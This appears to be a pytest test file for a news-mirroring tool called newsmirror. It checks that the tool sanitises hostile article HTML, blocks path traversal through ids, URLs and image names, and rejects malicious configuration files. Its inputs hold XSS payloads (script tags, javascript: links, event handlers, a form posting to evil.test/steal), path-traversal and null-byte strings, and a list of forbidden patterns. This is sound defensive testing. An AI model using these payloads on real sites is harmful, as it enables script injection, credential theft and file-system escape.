"""Hostile input: article HTML that tries to run code or send readers elsewhere, ids, URLs and image names that try
to write outside the mirror, and broken configuration files. Everything is checked on the output: the files of
both editions, a real Chromium for the HTML edition, the file system around the mirror, the CLI's messages."""

from __future__ import annotations

import io
import re
import subprocess
import sys
from datetime import datetime, timezone
from pathlib import Path

import pytest
from PIL import Image

import chromium
import faultserver as fs
from faultserver import FaultServer, mirror_config_text
from newsmirror.config import parse_config
from newsmirror.editions.worker import REGISTER
from newsmirror.ids import RESERVED, article_id
from newsmirror.pipeline import run_once
from newsmirror.progress import QUIET, Reporter
from newsmirror.state.store import Store

NOW = datetime(2026, 3, 2, 9, 0, tzinfo=timezone.utc)
SITE = "news.hostile.test"
FILLER = "".join(f"<p>The council discussed the pier budget, item {i}, and agreed to publish the minutes in full "
                 f"next week after a second reading by the harbour committee.</p>" for i in range(5))
HOSTILE_ARTICLE = f"""<!doctype html><html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0;url=http://evil.test/refresh"><base href="http://evil.test/base/">
<title>Harbour council meets</title><script>alert('head')</script>
<style>body{{background:url(javascript:alert(1))}} p{{width:expression(alert(2))}}</style></head>
<body><article><h1>Harbour council meets</h1>
<p onclick="alert(3)" onmouseover="alert(4)">The council met on Tuesday to discuss the new ferry pier and its cost.</p>
<p>Read the <a href="javascript:alert(5)">minutes</a>, the <a href="data:text/html,<script>alert(6)</script>">annex</a>
and the <a href=" JaVaScRiPt:alert(7)">agenda</a>, or <a href="vbscript:msgbox(8)">the summary</a>.</p>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoOSk+PC9zdmc+" onerror="alert(10)" alt="pier">
<svg width="10" height="10"><script>alert(11)</script><circle r="5" onload="alert(12)"/></svg>
<iframe src="http://evil.test/frame" srcdoc="<script>alert(13)</script>"></iframe>
<form action="http://evil.test/steal"><input name="password"><button formaction="javascript:alert(14)">Go</button></form>
<p style="width: expression(alert(15)); background:url(javascript:alert(16))">Members agreed that the pier would open in
spring, with a second phase planned for the year after.</p>
<object data="http://evil.test/x.swf"></object><embed src="http://evil.test/y.swf">
<math><mtext><script>alert(17)</script></mtext></math><noscript><img src=x onerror=alert(18)></noscript>
<a href="http://evil.test/clickjack" target="_blank" onfocus="alert(19)">a link with a handler</a>
{FILLER}</article></body></html>"""
# What must not be anywhere in either edition (case-insensitive).
FORBIDDEN = [r"<script", r"javascript:", r"vbscript:", r"data:text", r"data:image/svg", r"\bon[a-z]+\s*=",
             r"<iframe", r"<form", r"<input", r"<button", r"<object", r"<embed", r"<svg", r"<math", r"expression\(",
             r"<base", r"http-equiv=\"?refresh", r"evil\.test/(refresh|base|frame|steal|x\.swf|y\.swf)", r"alert\("]


# our one script: the service worker's registration line (editions/worker.py), the same on every HTML page
WORKER_TAG = re.compile(r'<script data-sw="[./]*sw\.js">' + re.escape(REGISTER) + "</script>")


def config_text(server: FaultServer, sources: str, extra: str = "") -> str:
    return mirror_config_text({SITE: server.address}, sources, fetch="timeout = 2\nretries = 0", after_fetch=extra)


def mirror(tmp_path: Path, server: FaultServer, sources: str, extra: str = ""):
    config = parse_config(config_text(server, sources, extra), tmp_path / "newsmirror.toml", tmp_path)
    summary = run_once(config, Reporter(QUIET), now=NOW)
    return config, summary


@pytest.fixture(scope="module")
def server():
    with FaultServer() as server:
        yield server


def output_files(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): p.read_text(errors="replace") for p in sorted(root.rglob("*"))
            if p.is_file() and ".git" not in p.parts and p.suffix in {".md", ".html", ".xml", ".css", ".js"}}


def test_hostile_article_html_is_inert_in_both_editions(server, tmp_path):
    server.route("/h/council", fs.reply(HOSTILE_ARTICLE))
    source = f'[[sources]]\nname = "h"\nkind = "urls"\nchannel = "news"\nurls = ["http://{SITE}/h/council"]\n'
    config, summary = mirror(tmp_path, server, source)
    assert summary.new == 1
    files = output_files(config.output_dir)
    pages = [p for p in files if p.startswith(("pages/", "site/pages/"))]
    assert {Path(p).suffix for p in pages} == {".md", ".html"}
    for path in pages:
        assert "pier would open" in files[path] and "council met on Tuesday" in files[path], path
    leaks = {(path, pattern) for path, text in files.items() for pattern in FORBIDDEN
             if re.search(pattern, WORKER_TAG.sub("", text), re.IGNORECASE)}
    assert not leaks, sorted(leaks)


def test_hostile_article_runs_nothing_in_a_browser(server, tmp_path):
    server.route("/h/council", fs.reply(HOSTILE_ARTICLE))
    source = f'[[sources]]\nname = "h"\nkind = "urls"\nchannel = "news"\nurls = ["http://{SITE}/h/council"]\n'
    config, _ = mirror(tmp_path, server, source)
    page_file = next((config.output_dir / "site" / "pages" / "news").glob("*.html"))
    dialogs, requests = [], []
    with chromium.launched() as browser:
        page = browser.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: requests.append(request.url))
        page.goto(page_file.as_uri())
        page.wait_for_timeout(300)
        for link in page.query_selector_all("article a"):  # clicking and focusing runs nothing either
            link.focus()
        active = page.evaluate("""() => ({
            dangerous: document.querySelectorAll(
                'script:not([data-sw]),iframe,frame,form,input,button,svg,math,object,embed,base,' +
                'meta[http-equiv=refresh i]').length,
            handlers: [...document.querySelectorAll('*')].flatMap(e => [...e.attributes])
                .filter(a => a.name.startsWith('on')).length,
            badLinks: [...document.body.querySelectorAll('[href],[src]')]
                .map(e => e.getAttribute('href') || e.getAttribute('src'))
                .filter(u => /^\\s*(javascript|data|vbscript):/i.test(u)).length,
            url: location.href,
        })""")
    assert dialogs == []
    assert active == {"dangerous": 0, "handlers": 0, "badLinks": 0, "url": page_file.as_uri()}
    assert not [u for u in requests if "evil.test" in u or not u.startswith("file:")], requests


# -- paths --------------------------------------------------------------------------------------------------------

HOSTILE_TAILS = [
    "..%2F..%2F..%2Fetc%2Fpasswd", "%2Fetc%2Fpasswd", "/etc/passwd", "a%00b%00.md", "x" * 600, "CON", "nul", "Com1",
    ".git", "..", "...", "%EF%BC%8E%EF%BC%8E%EF%BC%8F%EF%BC%8E%EF%BC%8E%EF%BC%8Fescape",  # ．．／．．／ look-alikes
    "%E2%80%AE%E2%80%8Bgpj.exe", "pages%2F..%2F..%2FREADME.md", "~root", "C:%5CWindows%5Cwin.ini",
]


def test_ids_are_safe_file_names_whatever_the_url():
    for tail in HOSTILE_TAILS:
        for pattern in (r"/p/(.+)$", r"/p/(.*)", None):
            value = article_id(f"http://{SITE}/p/{tail}", pattern)
            assert re.fullmatch(r"[A-Za-z0-9_-]{1,80}", value), (tail, value)
            assert value.upper() not in RESERVED and not value.startswith("-"), (tail, value)


def png(colour: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), colour).save(buffer, "PNG")
    return buffer.getvalue()


def test_hostile_ids_urls_and_image_names_never_write_outside_the_mirror(server, tmp_path):
    images = "".join(f'<img src="/i/{name}" alt="img {n}">' for n, name in enumerate([
        "..%2F..%2F..%2Fevil.png", "a/../../../../evil.png", "x.png%00.md", "CON.png", "%2Fabsolute.png",
        "y" * 300 + ".png"]))
    server.default = fs.reply(f"<html><head><title>Pier notes</title></head><body><article><h1>Pier notes</h1>"
                              f"{images}{FILLER}</article></body></html>")
    server.route("/i/..%2F..%2F..%2Fevil.png", fs.reply(png("red"), "image/png"))
    outside = tmp_path / "outside"
    outside.mkdir()
    work = tmp_path / "work"
    work.mkdir()
    urls = ", ".join(f'"http://{SITE}/p/{tail}"' for tail in HOSTILE_TAILS)
    source = (f'[[sources]]\nname = "p"\nkind = "urls"\nchannel = "news"\nid_pattern = "/p/(.+)$"\n'
              f"urls = [{urls}]\n")
    try:
        config, summary = mirror(work, server, source)
    finally:
        server.default = fs.status(404)
    assert summary.new + summary.unchanged >= len(HOSTILE_TAILS) - 3  # URLs that canonicalise alike are one page
    root = config.output_dir.resolve()
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    strays = [p for p in written if not p.resolve().is_relative_to(root)
              and not (p.parent == work and p.name.startswith("state.db"))]  # the state, its WAL and lock
    assert strays == [] and list(outside.iterdir()) == []
    for path in root.rglob("*"):
        name = path.name
        assert len(name.encode()) <= 120 and "\0" not in name and name.split(".")[0].upper() not in RESERVED, path
        assert not path.is_symlink()
    with Store(config.state_path) as store:
        ids = [s.id for s in store.published_articles()]
    assert all(re.fullmatch(r"[A-Za-z0-9_-]{1,80}", i) for i in ids) and len(set(ids)) == len(ids)


# -- configuration ------------------------------------------------------------------------------------------------

BASE = '[[sources]]\nname = "a"\nkind = "feed"\nchannel = "news"\nurl = "https://news.example.org/feed.xml"\n'
BAD_CONFIGS = {  # name -> (file text or None for a missing file, what the one message must say)
    "missing file": (None, r"newsmirror\.toml: 1 configuration error\(s\)\n  - file not found"),
    "wrong type": ("[fetch]\ntimeout = \"fast\"\n" + BASE, r"key 'fetch\.timeout': expected a valid number"),
    "wrong type (table)": ("mirror = 3\n" + BASE, r"key 'mirror': expected a valid dictionary"),
    "unknown key": ("[mirror]\ntitel = \"News\"\n" + BASE, r"key 'mirror\.titel': unknown key"),
    "duplicate channel": ('[channels.news]\ntitle = "A"\n[channels.news]\ntitle = "B"\n' + BASE,
                          r"not valid TOML: .*news"),
    "duplicate source": (BASE + BASE, r"source names must be unique; repeated: a"),
    "source url not http": (BASE.replace("https://news.example.org/feed.xml", "file:///etc/passwd"),
                            r"key 'sources\[0\] \(a\)\.url': expected an http:// or https:// URL"),
    "source url javascript": (BASE.replace("https://news.example.org/feed.xml", "javascript:alert(1)"),
                              r"key 'sources\[0\] \(a\)\.url': expected an http:// or https:// URL"),
    "channel name traversal": (BASE.replace('channel = "news"', 'channel = "../../etc"'),
                               r"key 'sources\[0\] \(a\)\.channel': expected a channel name"),
    "mirror is the project": ('[mirror]\noutput = "."\n' + BASE, r"key 'mirror\.output': a directory apart"),
    "mirror holds the project": ('[mirror]\noutput = ".."\n' + BASE, r"key 'mirror\.output': a directory apart"),
    "state inside the mirror": ('[mirror]\nstate = "mirror/state.db"\n' + BASE, r"key 'mirror\.state': a file outside"),
}


@pytest.mark.parametrize("name", list(BAD_CONFIGS))
def test_hostile_configuration_one_clear_message_nothing_written(tmp_path, name):
    text, message = BAD_CONFIGS[name]
    project = tmp_path / "project"
    project.mkdir()
    config = project / "newsmirror.toml"
    if text is not None:
        config.write_text(text)
    before = sorted(tmp_path.rglob("*"))
    result = subprocess.run([sys.executable, "-m", "newsmirror", "run", "--config", str(config)], cwd=project,
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 2, result.stderr
    assert re.search(message, result.stderr), result.stderr
    assert result.stderr.count("\n  - ") == 1 and "Traceback" not in result.stderr, result.stderr
    assert sorted(tmp_path.rglob("*")) == before  # no mirror, no state, no lock file


def test_add_refuses_a_hostile_channel_name(tmp_path):
    result = subprocess.run([sys.executable, "-m", "newsmirror", "add", "https://news.example.org/a",
                             "--channel", "../../tmp"], cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert result.returncode == 2 and "--channel" in result.stderr and list(tmp_path.iterdir()) == []
